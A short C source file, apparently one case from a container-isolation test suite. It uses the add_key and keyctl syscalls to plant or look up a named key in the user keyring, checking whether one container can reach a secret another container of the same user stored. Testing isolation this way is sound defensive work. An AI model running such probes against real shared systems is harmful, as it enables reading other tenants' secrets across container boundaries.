/* A key that another container of the same user has put into the keyring of that user, which no namespace parts.
 * argv[1]: its name; argv[2], where given: make it. */
#include "attack.h"

static long attack(char **argv)
{
    enum { SEARCH = 10, USER_KEYRING = -4 };
    if (argv[2])
        return syscall(SYS_add_key, "user", argv[1], "secret", 6, USER_KEYRING);
    return syscall(SYS_keyctl, SEARCH, USER_KEYRING, "user", argv[1], 0);
}
